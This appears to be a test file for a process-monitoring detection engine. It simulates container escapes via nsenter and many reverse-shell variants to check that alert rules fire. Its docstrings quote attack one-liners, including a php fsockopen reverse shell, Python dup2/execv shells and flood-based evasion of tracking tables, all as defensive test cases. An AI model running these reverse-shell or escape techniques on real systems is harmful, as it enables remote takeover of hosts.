"""More hostile-workspace evasions of Worktrace's rules (issue 15, second review).

Events are built in Tetragon's export shape (see conftest); each test is one attack a workspace
user can mount with their own processes. A test that fails is an attack that breaks Worktrace.
"""

from __future__ import annotations

from typing import Any

import pytest

from stockade.worktrace import AnomalyConfig, Engine, LocalSessions, SessionInfo, load_rules

from .conftest import (
    AF_UNIX,
    CLOEXEC,
    connect_event,
    exec_event,
    kprobe_event,
    line,
    parent_process,
    process,
    socket_event,
    syscall_event,
    tick,
)

NODE = "node-1"
PY = "/usr/bin/python3"


@pytest.fixture(scope="module")
def engine_rules() -> Any:
    return load_rules()


def fresh(rules: Any) -> Engine:
    return Engine(rules, anomaly=AnomalyConfig(enabled=False))


def rule_ids(engine: Engine, event: dict[str, Any]) -> set[str]:
    return {a.rule_id for a in engine.feed(line(event)) if a.kind == "rule"}


def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]]:
    engine = fresh(engine_rules)
    return [rule_ids(engine, event) for event in events]


def _body(event: dict[str, Any]) -> dict[str, Any]:
    body: dict[str, Any] = event[next(k for k in event if k.startswith("process_"))]
    return body


def at(
    event: dict[str, Any],
    pid: int,
    exec_id: str,
    *,
    parent: tuple[int, str, str] | None = None,
) -> dict[str, Any]:
    """``event`` of process ``pid``/``exec_id``; ``parent`` is (pid, exec_id, binary)."""
    body = _body(event)
    body["process"]["pid"] = pid
    body["process"]["exec_id"] = exec_id
    if parent is not None:
        ppid, pexec, pbinary = parent
        body["process"]["parent_exec_id"] = pexec
        body["parent"].update(pid=ppid, exec_id=pexec, binary=pbinary)
    return event


def sock(daddr: str = "203.0.113.9", dport: int = 4444) -> dict[str, Any]:
    return {
        "sock_arg": {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": "10.8.0.12",
            "daddr": daddr,
            "sport": 50000,
            "dport": dport,
        }
    }


def connect(binary: str = PY) -> dict[str, Any]:
    return kprobe_event("tcp_connect", [sock()], binary=binary)


def connected(
    pid: int, exec_id: str, *, fd: int = 3, binary: str = PY, cloexec: bool = True
) -> list[dict[str, Any]]:
    """``s = socket(); s.connect(...)`` in process ``pid``/``exec_id`` as the generated policy
    reports it: the socket's creation on ``fd``, its connect and ``tcp_connect``."""
    events = [
        socket_event(fd, binary=binary, cloexec=cloexec),
        connect_event(fd, binary=binary),
        connect(binary),
    ]
    return [at(event, pid, exec_id) for event in events]


def dup(oldfd: int, newfd: int, *, binary: str = PY) -> dict[str, Any]:
    """``dup2(oldfd, newfd)``, returning ``newfd``."""
    return syscall_event("__x64_sys_dup2", [oldfd, newfd], ret=newfd, binary=binary)


def close(fd: int, *, binary: str = PY) -> dict[str, Any]:
    return syscall_event("__x64_sys_close", [fd], binary=binary)


def exit_event(binary: str, pid: int, exec_id: str) -> dict[str, Any]:
    body = {"process": process(binary), "parent": parent_process(), "time": "2026-12-01T10:00:02Z"}
    return at({"process_exit": body, "node_name": NODE}, pid, exec_id)


# --- nsenter: namespace files the rule's globs do not spell ------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        "--mount=//proc/1/ns/mnt --pid=//proc/1/ns/pid sh",  # a doubled slash
        "--mount=/tmp/h/mnt --pid=/tmp/h/pid sh",  # ln -s /proc/1/ns /tmp/h
        "--mount=./1/ns/mnt sh",  # relative, run from /proc
        "-p/proc/1/ns/pid -U/proc/1/ns/user sh",  # short options with an attached file
        "-C/proc/1/ns/cgroup -i/proc/1/ns/ipc sh",
    ],
)
def test_nsenter_namespace_file_spellings_broke(engine_rules: Any, arguments: str) -> None:
    """BROKE: ``--mount=FILE`` matched only when FILE starts with ``/proc/``, a short option
    with its file attached only when a ``t`` happened to be in it. nsenter does nothing but
    enter the namespaces of a target or a file: any of its options but help/version fires."""
    event = exec_event("/usr/bin/nsenter", arguments)
    assert "nsenter-target" in rule_ids(fresh(engine_rules), event)


@pytest.mark.parametrize("arguments", ["--help", "-h", "-V", "--version"])
def test_nsenter_help_and_version_are_benign(engine_rules: Any, arguments: str) -> None:
    assert not rule_ids(fresh(engine_rules), exec_event("/usr/bin/nsenter", arguments))


def test_busybox_nsenter_namespace_file_broke(engine_rules: Any) -> None:
    event = exec_event("/bin/busybox", "nsenter --net=/tmp/h/net sh")
    assert "nsenter-busybox" in rule_ids(fresh(engine_rules), event)


# --- reverse shell on stdio: the connected process gone before the shell's exec -----------


def test_reverse_shell_parent_exits_before_the_shell_exec_broke(engine_rules: Any) -> None:
    """BROKE: python connects, dup2()s the socket onto its stdin, forks and exits at once;
    the child execs sh. The parent's ``process_exit`` came before the child's exec and took
    the mark with it, so the shell on the socket fired nothing."""
    events = [
        *connected(4500, "cHk="),
        at(dup(3, 0), 4500, "cHk="),
        exit_event(PY, 4500, "cHk="),
        at(exec_event("/bin/sh", "-i"), 4501, "c2g=", parent=(4500, "cHk=", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_after_a_double_fork_broke(engine_rules: Any) -> None:
    """BROKE: ``if fork(): exit(); setsid(); if fork(): exit(); execv("/bin/sh")``: the shell's
    parent is a forked copy of python that never exec'd (Tetragon gives it its own exec id
    and pid, and python's binary), whose parent is the connected python."""
    events = [
        *connected(4600, "cHky"),
        at(dup(3, 0), 4600, "cHky"),
        exit_event(PY, 4600, "cHky"),
    ]
    shell = at(exec_event("/bin/sh", "-i"), 4602, "c2gy", parent=(4601, "Zm9yaw==", PY))
    _body(shell)["parent"]["parent_exec_id"] = "cHky"
    events.append(shell)
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_exited_mark_is_not_reused_by_a_new_process_of_the_same_pid(engine_rules: Any) -> None:
    """The mark of an exited process stays with its exec id only: a new process that reuses
    its pid, and that process's children, are not taken for it."""
    events = [
        *connected(4700, "b2xk"),
        at(dup(3, 0), 4700, "b2xk"),
        exit_event(PY, 4700, "b2xk"),
        at(exec_event("/usr/bin/make"), 4700, "bmV3", parent=(1, "aW5pdA==", "/sbin/init")),
        at(exec_event("/bin/sh", "-c cc"), 4701, "c2gz", parent=(4700, "bmV3", "/usr/bin/make")),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_forked_child_of_a_benign_parent_of_the_marked_process_is_benign(
    engine_rules: Any,
) -> None:
    """A shell whose parent is a fork of the marked process's *parent* (another binary) is
    not on the marked process's descriptors."""
    events = [
        *connected(4800, "bWFyaw=="),
        at(dup(3, 0), 4800, "bWFyaw=="),
    ]
    shell = at(exec_event("/bin/sh"), 4802, "c2g0", parent=(4801, "c2libA==", "/usr/bin/make"))
    _body(shell)["parent"]["parent_exec_id"] = "bWFyaw=="
    events.append(shell)
    assert not fired_over(engine_rules, events)[-1]


# --- reverse shell on stdio: the descriptor tables ---------------------------------------


def test_reverse_shell_dup2_before_connect_broke(engine_rules: Any) -> None:
    """BROKE (xfail): ``s = socket(); os.dup2(s.fileno(), 0); s.connect(...); pty.spawn("sh")``.
    The dup2 came before any connect, and telling fd 3 from a descriptor closed and reused
    needed the socket's creation and the closes. fd 0 is now a copy of the socket (one open
    file), and its connect through fd 3 connects the copy as well."""
    events = [
        at(socket_event(3), 4900, "YmVm"),
        at(dup(3, 0), 4900, "YmVm"),
        at(connect_event(3), 4900, "YmVm"),
        at(connect(), 4900, "YmVm"),
        at(exec_event("/bin/sh"), 4901, "c2g1", parent=(4900, "YmVm", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_dup2_of_a_descriptor_that_never_connects_is_benign(engine_rules: Any) -> None:
    """A socket on stdin whose connect failed (refused) is no connection."""
    events = [
        at(socket_event(3), 4950, "bm9j"),
        at(dup(3, 0), 4950, "bm9j"),
        at(connect_event(3, ret=-111), 4950, "bm9j"),  # -ECONNREFUSED
        at(exec_event("/bin/sh"), 4951, "c2g5", parent=(4950, "bm9j", PY)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_reverse_shell_socket_lands_on_fd_0_broke(engine_rules: Any) -> None:
    """BROKE: ``os.close(0); s = socket(); s.connect(...)``: the socket is fd 0, no dup at all,
    and the shell run on it fired nothing."""
    events = [
        at(close(0), 5100, "ZmQw"),
        *connected(5100, "ZmQw", fd=0),
        at(exec_event("/bin/sh"), 5101, "c2g2", parent=(5100, "ZmQw", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_connect_of_stdin_whose_socket_was_not_seen_created_fires(engine_rules: Any) -> None:
    """A connect of a descriptor whose socket's creation the table did not see (opened before
    the policy was loaded, received over a unix socket, lost): it is a socket (connect
    succeeded) of unknown family, taken for a network one (fail closed)."""
    events = [
        at(connect_event(0), 5120, "ZmQx"),
        at(connect(), 5120, "ZmQx"),
        at(exec_event("/bin/sh"), 5121, "c2g3", parent=(5120, "ZmQx", PY)),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_unix_socket_on_stdin_is_not_a_network_connection(engine_rules: Any) -> None:
    """``close(0); socket(AF_UNIX); connect("/run/...")``: a local socket on stdin."""
    events = [
        at(close(0), 5130, "dW5p"),
        at(socket_event(0, family=AF_UNIX), 5130, "dW5p"),
        at(connect_event(0), 5130, "dW5p"),
        at(exec_event("/bin/sh"), 5131, "c2g6", parent=(5130, "dW5p", PY)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_connect_of_another_descriptor_marks_nothing(engine_rules: Any) -> None:
    """Every program connects: a connect of fd 3 (its stdin untouched) is not a reverse shell."""
    events = [
        *connected(5150, "ZmQz"),
        at(exec_event("/bin/sh", "-c make"), 5151, "c2g4", parent=(5150, "ZmQz", PY)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


def test_close_then_reuse_of_stdin_by_a_pipe_is_benign(engine_rules: Any) -> None:
    """The socket was dup'ed onto stdin, then fd 0 closed and reused by ``os.pipe()`` (which
    returns the lowest free descriptors, (0, 4): no hooked call names them): the shell reads
    a pipe."""
    events = [
        *connected(5200, "cGlw"),
        at(dup(3, 0), 5200, "cGlw"),
        at(close(0), 5200, "cGlw"),
        at(exec_event("/bin/sh", "-c make"), 5201, "c2g3", parent=(5200, "cGlw", PY)),
    ]
    assert not set().union(*fired_over(engine_rules, events))


@pytest.mark.parametrize(
    "replace",
    [
        [close(0)],  # then open("/dev/null") returns 0: no hooked call
        [dup(4, 0)],  # dup2(open("/dev/null"), 0): a copy of no socket
        [syscall_event("__x64_sys_dup3", [4, 0, 0], ret=0)],
        [close(0), syscall_event("__x64_sys_dup", [4], ret=0)],
        [close(0), syscall_event("__x64_sys_fcntl", [4, 0, 0], ret=0)],  # F_DUPFD
        [syscall_event("__x64_sys_close_range", [0, 0, 0], ret=0)],
    ],
    ids=["close-open", "dup2", "dup3", "close-dup", "close-fcntl", "close_range"],
)
def test_socket_on_stdin_replaced_by_dev_null_before_exec_is_benign(
    engine_rules: Any, replace: list[dict[str, Any]]
) -> None:
    """``dup2(s, 0)``, then stdin pointed at /dev/null (fd 4) before ``execv("/bin/sh")``."""
    events = [*connected(5250, "bnVs"), at(dup(3, 0), 5250, "bnVs")]
    events += [at(event, 5250, "bnVs") for event in replace]
    events.append(at(exec_event("/bin/sh", "-c make"), 5250, "c2g4"))
    assert not set().union(*fired_over(engine_rules, events))


def test_close_range_that_fails_closes_nothing(engine_rules: Any) -> None:
    """``close_range(0, ~0, 0x80)``: an unknown flag is EINVAL and closes nothing."""
    events = [
        *connected(5260, "ZmFp"),
        at(dup(3, 0), 5260, "ZmFp"),
        at(syscall_event("__x64_sys_close_range", [0, -1, 0x80], ret=-22), 5260, "ZmFp"),
        at(exec_event("/bin/sh"), 5260, "c2g5"),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_dup_to_stdio_in_a_grandchild_after_two_forks(engine_rules: Any) -> None:
    """python connects fd 3, forks, the child forks again (neither execs, the first does no
    hooked call: Tetragon reports neither fork), and the grandchild dup2()s the socket onto
    0, 1, 2 and execs sh. The grandchild is first seen at its dup2: it inherits the table of
    its parent's parent, the parent being a fork of it (same binary) with no table of its
    own."""
    fork = (5301, "Zm9yazE=", PY)
    events = connected(5300, "Z3Jk")
    for fd in (0, 1, 2):
        event = at(dup(3, fd), 5302, "Zm9yazI=", parent=fork)
        _body(event)["parent"]["parent_exec_id"] = "Z3Jk"
        events.append(event)
    shell = at(exec_event("/bin/sh", "-i"), 5302, "c2g2", parent=fork)
    _body(shell)["parent"]["parent_exec_id"] = "Z3Jk"
    events.append(shell)
    fired = fired_over(engine_rules, events)
    assert fired[-1] == {"reverse-shell-stdio"}
    assert not set().union(*fired[:-1])


def test_close_on_exec_socket_is_gone_in_the_exec_d_child(engine_rules: Any) -> None:
    """python's socket is close-on-exec: in ``os.system("sh -c 'sh -i <&3'")`` the exec of
    ``sh -c`` closed fd 3, so its dup2(3, 0) fails (EBADF) and no shell runs on the socket."""
    events = [
        *connected(5400, "Y2xv"),
        at(exec_event("/bin/sh", "-c sh -i <&3"), 5401, "c2hj", parent=(5400, "Y2xv", PY)),
        at(syscall_event("__x64_sys_dup2", [3, 0], ret=-9), 5401, "c2hj"),
        at(exec_event("/bin/sh", "-i"), 5402, "c2hp", parent=(5401, "c2hj", "/bin/sh")),
    ]
    assert not set().union(*fired_over(engine_rules, events))


@pytest.mark.parametrize(
    "inheritable",
    [
        syscall_event("__x64_sys_ioctl", [3, 0x5450]),  # s.set_inheritable(True): FIONCLEX
        syscall_event("__x64_sys_fcntl", [3, 2, 0], ret=0),  # fcntl(3, F_SETFD, 0)
    ],
    ids=["ioctl-FIONCLEX", "fcntl-F_SETFD"],
)
def test_reverse_shell_through_a_socket_made_inheritable(
    engine_rules: Any, inheritable: dict[str, Any]
) -> None:
    """``s.set_inheritable(True); os.system("sh -c 'sh -i <&3 >&3'")``: the close-on-exec
    flag cleared, fd 3 survives the exec and the child's shell dup2()s it onto stdin."""
    events = [
        *connected(5450, "aW5o"),
        at(inheritable, 5450, "aW5o"),
        at(exec_event("/bin/sh", "-c sh -i <&3"), 5451, "c2hq", parent=(5450, "aW5o", PY)),
        at(dup(3, 0, binary="/bin/sh"), 5451, "c2hq"),
        at(exec_event("/bin/sh", "-i"), 5452, "c2hr", parent=(5451, "c2hq", "/bin/sh")),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_dup3_with_o_cloexec_onto_stdin_closes_it_at_exec(engine_rules: Any) -> None:
    """``dup3(s, 0, O_CLOEXEC); execv("/bin/sh")``: the exec closes stdin."""
    events = [
        *connected(5470, "Y2xw"),
        at(syscall_event("__x64_sys_dup3", [3, 0, CLOEXEC], ret=0), 5470, "Y2xw"),
        at(exec_event("/bin/sh"), 5470, "c2hz"),
    ]
    assert not set().union(*fired_over(engine_rules, events))


@pytest.mark.parametrize(
    "copy",
    [
        syscall_event("__x64_sys_dup", [3], ret=0),
        syscall_event("__x64_sys_fcntl", [3, 0, 0], ret=0),  # F_DUPFD
    ],
    ids=["dup", "fcntl-F_DUPFD"],
)
def test_reverse_shell_close_0_then_dup(engine_rules: Any, copy: dict[str, Any]) -> None:
    """``os.close(0); os.dup(s.fileno())``: the copy lands on the lowest free descriptor."""
    events = [*connected(5480, "ZHVw"), at(close(0), 5480, "ZHVw"), at(copy, 5480, "ZHVw")]
    events.append(at(exec_event("/bin/sh"), 5481, "c2h0", parent=(5480, "ZHVw", PY)))
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_in_a_child_reparented_before_its_exec(engine_rules: Any) -> None:
    """``if os.fork(): os._exit(0)``; the child dup2()s the socket onto stdin, and execs sh
    once its parent has gone: the exec names the reaper (pid 1) as its parent, the child's
    table (kept by its pid until its own exit) is still its."""
    events = [
        *connected(5490, "cmVw"),
        at(dup(3, 0), 5491, "cmVwMg==", parent=(5490, "cmVw", PY)),
        exit_event(PY, 5490, "cmVw"),
        at(exec_event("/bin/sh"), 5491, "c2g3", parent=(1, "aW5pdA==", "/sbin/tini")),
    ]
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_parent_closes_its_copy_after_the_fork_broke(engine_rules: Any) -> None:
    """BROKE (was xfail): ``if os.fork() == 0: time.sleep(1); os.dup2(s.fileno(), 0);
    os.execv("/bin/sh")`` while the parent does ``s.close()`` at once (a fork server's usual
    close of its copy). The child, first seen at its dup2, inherited the parent's table as it
    was then, socket gone. The parent's removed sockets are kept with their time; a child whose
    clone started before the close (its ``start_time``) gets them back."""
    events = connected(5495, "Y2xz")
    forked_at = tick()  # the fork: after the connect, before the close
    events.append(at(close(3), 5495, "Y2xz"))
    child_dup = at(dup(3, 0), 5496, "Y2xzMg==", parent=(5495, "Y2xz", PY))
    _body(child_dup)["process"]["start_time"] = forked_at
    events.append(child_dup)
    events.append(at(exec_event("/bin/sh"), 5496, "c2g4", parent=(5495, "Y2xz", PY)))
    fired = fired_over(engine_rules, events)
    assert fired[-1] == {"reverse-shell-stdio"}
    assert not set().union(*fired[:-1])


def test_child_forked_after_the_parent_closed_its_socket_is_benign(engine_rules: Any) -> None:
    """The other side of the fix: a child forked *after* the parent's close did not get the
    socket; its dup2 of fd 3 (now a file, say) onto stdin and its shell are benign."""
    events = [
        *connected(5497, "Y2x0"),
        at(dup(3, 0), 5497, "Y2x0"),
        at(close(0), 5497, "Y2x0"),
        at(close(3), 5497, "Y2x0"),
    ]
    events.append(at(dup(3, 0), 5498, "Y2x0Mg==", parent=(5497, "Y2x0", PY)))  # forked now
    events.append(at(exec_event("/bin/sh"), 5498, "c2g5", parent=(5497, "Y2x0", PY)))
    assert not set().union(*fired_over(engine_rules, events))


def test_parent_that_replaced_the_socket_after_the_fork_hands_the_child_the_socket(
    engine_rules: Any,
) -> None:
    """Forked while the socket was on stdin; the parent then points its stdin at /dev/null
    (``dup2(devnull, 0)``) before the child's first event (a close of a pipe's end): the child
    still has the socket."""
    events = [*connected(5499, "Y2x1"), at(dup(3, 0), 5499, "Y2x1")]
    forked_at = tick()
    events.append(at(dup(5, 0), 5499, "Y2x1"))  # /dev/null over the parent's stdin
    first = at(close(7), 5500, "Y2x1Mg==", parent=(5499, "Y2x1", PY))
    _body(first)["process"]["start_time"] = forked_at
    events.append(first)
    events.append(at(exec_event("/bin/sh"), 5500, "c2g6", parent=(5499, "Y2x1", PY)))
    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}


def test_reverse_shell_whose_connect_is_exported_after_the_shell_exec_broke(
    engine_rules: Any,
) -> None:
    """BROKE: Tetragon's export is not ordered across CPUs. ``s = socket(); os.dup2(s, 0);
    s.connect(...)`` in python on one CPU, its forked child's ``execv("/bin/sh")`` on another:
    the exec can be exported before the connect. At the exec the socket on the shell's stdin
    was not connected yet, and the connect arriving next marked it for nobody. The exec of a
    program with a network socket, not yet connected, on its stdin now waits on that socket:
    its connect raises the alert (the socket being one open file, whoever connects it)."""
    events = [
        at(socket_event(3), 5520, "b29v"),
        at(dup(3, 0), 5520, "b29v"),
        at(exec_event("/bin/sh", "-i"), 5521, "c2g3", parent=(5520, "b29v", PY)),
        at(connect_event(3), 5520, "b29v"),  # exported late
        at(connect(), 5520, "b29v"),
    ]
    fired = fired_over(engine_rules, events)
    assert set().union(*fired) == {"reverse-shell-stdio"}
    assert sum("reverse-shell-stdio" in hits for hits in fired) == 1


def test_socket_on_stdin_that_never_connects_raises_nothing_later(engine_rules: Any) -> None:
    """The waiting exec fires only on a connect that succeeded, once."""
    events = [
        at(socket_event(3), 5530, "b29w"),
        at(dup(3, 0), 5530, "b29w"),
        at(exec_event("/bin/sh", "-c make"), 5531, "c2g4", parent=(5530, "b29w", PY)),
        at(connect_event(3, ret=-111), 5530, "b29w"),  # refused
        at(connect_event(4), 5530, "b29w"),  # another socket
    ]
    assert not set().union(*fired_over(engine_rules, events))


# --- reverse shell on stdio: the dup2 in a child that inherited the socket ----------------


def test_reverse_shell_popen_with_the_socket_as_stdin_broke() -> None:
    """BROKE (xfail): ``s.connect(...); subprocess.Popen(["/bin/sh", "-i"], stdin=s, ...)``: the
    dup2 onto stdin is in the forked child, which connected nothing. The child, first seen at
    its dup2 (under its clone's exec id), inherits python's table; the dup2 puts the socket on
    its stdin, ``close_range(3, ~0)`` (``close_fds``) and the exec drop the rest."""
    events = [
        *connected(5500, "cG9w"),
        at(dup(3, 0), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
        at(dup(3, 1), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
        at(
            syscall_event("__x64_sys_close_range", [3, -1, 0], ret=0),
            5501,
            "cG9wMg==",
            parent=(5500, "cG9w", PY),
        ),
        at(exec_event("/bin/sh", "-i"), 5501, "c2g3", parent=(5500, "cG9w", PY)),
    ]
    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]


def test_reverse_shell_php_exec_redirects_fd_3_broke() -> None:
    """BROKE (xfail): ``php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'``: php
    connects (its socket is inheritable), its ``sh -c`` child does the dup2(3, 0) and execs
    the interactive shell."""
    php = "/usr/bin/php"
    sh_c = "-c /bin/sh -i <&3 >&3 2>&3"
    events = [
        *connected(5600, "cGhw", binary=php, cloexec=False),
        at(exec_event("/bin/sh", sh_c), 5601, "c2hj", parent=(5600, "cGhw", php)),
        at(dup(3, 0, binary="/bin/sh"), 5601, "c2hj", parent=(5600, "cGhw", php)),
        at(exec_event("/bin/sh", "-i"), 5602, "c2hp", parent=(5601, "c2hj", "/bin/sh")),
    ]
    fired = fired_over(load_rules(), events)
    assert fired[-1] == {"reverse-shell-stdio"}
    assert not set().union(*fired[:-1])  # not sh -c itself: its stdin was not the socket


def test_php_exec_of_a_shell_reading_a_pipe_is_benign() -> None:
    php = "/usr/bin/php"
    events = [
        *connected(5650, "cGhy", binary=php, cloexec=False),
        at(exec_event("/bin/sh", "-c sort <&4"), 5651, "c2hr", parent=(5650, "cGhy", php)),
        at(dup(4, 0, binary="/bin/sh"), 5651, "c2hr", parent=(5650, "cGhy", php)),
        at(exec_event("/usr/bin/sort"), 5652, "c29y", parent=(5651, "c2hr", "/bin/sh")),
    ]
    assert not set().union(*fired_over(load_rules(), events))


# --- benign programs that connect and dup -------------------------------------------------


def _benign_sessions() -> dict[str, list[dict[str, Any]]]:
    make, sh, curl, ssh = "/usr/bin/make", "/bin/sh", "/usr/bin/curl", "/usr/bin/ssh"
    return {
        # curl https://example.org -o x: a socket, connected, closed at the end
        "curl": [
            at(exec_event(curl, "https://example.org -o x"), 6000, "Y3Vy"),
            *connected(6000, "Y3Vy", binary=curl, fd=5, cloexec=True),
            at(close(5, binary=curl), 6000, "Y3Vy"),
            exit_event(curl, 6000, "Y3Vy"),
        ],
        # make: sh -c 'curl -s URL | tar x', the pipeline's children dup2 the pipe (fd 3, 4)
        "make-pipeline": [
            at(exec_event(make, "all"), 6100, "bWFr"),
            at(exec_event(sh, "-c curl -s URL | tar x"), 6101, "c2gx", parent=(6100, "bWFr", make)),
            at(dup(4, 1, binary=sh), 6102, "Zm9y", parent=(6101, "c2gx", sh)),
            at(exec_event(curl, "-s URL"), 6102, "Y3Vy", parent=(6101, "c2gx", sh)),
            *connected(6102, "Y3Vy", binary=curl, fd=5),
            at(dup(3, 0, binary=sh), 6103, "Zm9yMg==", parent=(6101, "c2gx", sh)),
            at(exec_event("/bin/tar", "x"), 6103, "dGFy", parent=(6101, "c2gx", sh)),
            at(exec_event(sh, "-c cc -c a.c"), 6104, "c2gy", parent=(6100, "bWFr", make)),
        ],
        # ssh with a ProxyCommand: ssh forks sh -c with pipes on its stdio, then connects
        "ssh": [
            at(exec_event(ssh, "-o ProxyCommand=nc %h %p forge"), 6200, "c3No"),
            at(dup(5, 0, binary=ssh), 6201, "Zm9yMw==", parent=(6200, "c3No", ssh)),
            at(dup(6, 1, binary=ssh), 6201, "Zm9yMw==", parent=(6200, "c3No", ssh)),
            at(exec_event(sh, "-c nc forge 22"), 6201, "c2gz", parent=(6200, "c3No", ssh)),
            at(exec_event("/usr/bin/nc", "forge 22"), 6201, "bmM=", parent=(6200, "c3No", ssh)),
            *connected(6201, "bmM=", binary="/usr/bin/nc", fd=3, cloexec=False),
            *connected(6200, "c3No", binary=ssh, fd=7),  # ssh -J / a second connection
            at(exec_event(sh, "-c ssh-askpass"), 6202, "YXNr", parent=(6200, "c3No", ssh)),
        ],
    }


@pytest.mark.parametrize("name", sorted(_benign_sessions()))
def test_benign_programs_that_connect_and_dup(engine_rules: Any, name: str) -> None:
    assert not set().union(*fired_over(engine_rules, _benign_sessions()[name]))


# --- reverse shell on stdio: bounded descriptor tables ------------------------------------


def _template(event: dict[str, Any]) -> str:
    """``event``'s line with ``{pid}``, ``{exec_id}`` and ``{fd}`` to fill (floods of
    thousands of events, built fast)."""
    text = line(event).decode()
    for value, name in (("987654", "{pid}"), ("RVhFQ0lE", "{exec_id}"), ("876543", "{fd}")):
        text = text.replace(value, name)
    return text


FLOOD = 10_000  # the caps below are scaled down with it: 156x max_fd_processes, 625x max_fds


def test_a_flood_of_sockets_does_not_grow_a_table_nor_hide_the_shell() -> None:
    """A process opens far more sockets than a table follows (``max_fds``), then dup2()s an
    unfollowed one onto stdin: the table stays at its limit, and the untracked descriptor on
    stdin is taken for a socket (fail closed)."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fds=16)
    opened = _template(at(socket_event(876543), 5700, "bWFueQ=="))
    for fd in range(3, FLOOD + 3):
        engine.feed(opened.replace("{fd}", str(fd)))
    engine.feed(line(at(connect_event(FLOOD + 2), 5700, "bWFueQ==")))
    engine.feed(line(at(dup(FLOOD + 2, 0), 5700, "bWFueQ==")))
    shell = at(exec_event("/bin/sh"), 5701, "c2g4", parent=(5700, "bWFueQ==", PY))
    assert rule_ids(engine, shell) == {"reverse-shell-stdio"}
    assert max(len(table.fds) for table in engine._fd_tables) <= 16 + 1  # and stdin


def test_a_fork_flood_does_not_evict_a_live_reverse_shell() -> None:
    """With the socket on python's stdin, the attacker runs a flood of processes that each
    open a socket (half of them exit at once): the tables stay within ``max_fd_processes``,
    the live process with a socket on its stdin is evicted last, and its shell fires."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=64)
    for event in [*connected(5800, "cmVhbA=="), at(dup(3, 0), 5800, "cmVhbA==")]:
        engine.feed(line(event))
    opened = _template(at(socket_event(3), 987654, "RVhFQ0lE", parent=(5900, "YXR0", PY)))
    gone = _template(exit_event(PY, 987654, "RVhFQ0lE"))
    for n in range(FLOOD):
        pid, exec_id = str(10_000 + n), f"Zmxvb2Q{n}"
        engine.feed(opened.replace("{pid}", pid).replace("{exec_id}", exec_id))
        if n % 2:
            engine.feed(gone.replace("{pid}", pid).replace("{exec_id}", exec_id))
        assert engine.stats()["fd_tables"] <= 64
    shell = at(exec_event("/bin/sh"), 5801, "c2g1", parent=(5800, "cmVhbA==", PY))
    assert rule_ids(engine, shell) == {"reverse-shell-stdio"}
    assert engine.stats()["fd_evicted_armed"] == 0


def test_a_flood_of_sockets_on_stdin_is_what_evicts_one() -> None:
    """The price of pushing out a live socket-on-stdin table: more live processes with a
    socket on their stdin than ``max_fd_processes`` (each a reverse shell of its own, whose
    shell would fire); the evictions are counted."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=64)
    for n in range(200):
        pid, exec_id = 30_000 + n, f"YXJt{n}"
        for event in (*connected(pid, exec_id), at(dup(3, 0), pid, exec_id)):
            engine.feed(line(event))
    assert engine.stats()["fd_tables"] <= 64
    assert engine.stats()["fd_evicted_armed"] > 0


def test_evicting_the_reverse_shell_with_a_flood_of_sockets_on_stdin_broke() -> None:
    """BROKE: python connects and dup2()s the socket onto its stdin, then forks more live
    processes that each put an (unconnected) socket on their stdin than ``max_fd_processes``
    (16,384 in service: a pod without a pids limit runs that many) -- none of them execs, so
    none alerts -- and only then execs sh. Its table, the oldest in the last tier, was evicted
    and the shell fired nothing. A live process whose socket-on-stdin table was evicted now
    leaves a mark (bounded, 4x the tables): its stdin, and its children's, are taken for a
    connected socket (fail closed: the flood's own processes are the only others marked)."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=64)
    for event in [*connected(5800, "cmVhbA=="), at(dup(3, 0), 5800, "cmVhbA==")]:
        engine.feed(line(event))
    opened = _template(at(socket_event(3), 987654, "RVhFQ0lE", parent=(5900, "YXR0", PY)))
    onto_stdin = _template(at(dup(3, 0), 987654, "RVhFQ0lE", parent=(5900, "YXR0", PY)))
    for n in range(200):
        pid, exec_id = str(40_000 + n), f"ZXZpY3Q{n}"
        for template in (opened, onto_stdin):
            engine.feed(template.replace("{pid}", pid).replace("{exec_id}", exec_id))
    assert engine.stats()["fd_evicted_armed"] > 0
    shell = at(exec_event("/bin/sh"), 5801, "c2g1", parent=(5800, "cmVhbA==", PY))
    assert rule_ids(engine, shell) == {"reverse-shell-stdio"}


def test_an_evicted_mark_ends_with_its_process() -> None:
    """The mark of an evicted table goes at its process's exit: a new process of that pid
    (a pid is reused only after an exit) and its children are not taken for it."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=8)
    for n in range(40):
        pid, exec_id = 41_000 + n, f"bWFyaw{n}"
        for event in (*connected(pid, exec_id), at(dup(3, 0), pid, exec_id)):
            engine.feed(line(event))
    for n in range(40):
        engine.feed(line(exit_event(PY, 41_000 + n, f"bWFyaw{n}")))
    make = at(exec_event("/usr/bin/make"), 41_000, "bmV3", parent=(1, "aW5pdA==", "/sbin/init"))
    assert not rule_ids(engine, make)
    make_parent = (41_000, "bmV3", "/usr/bin/make")
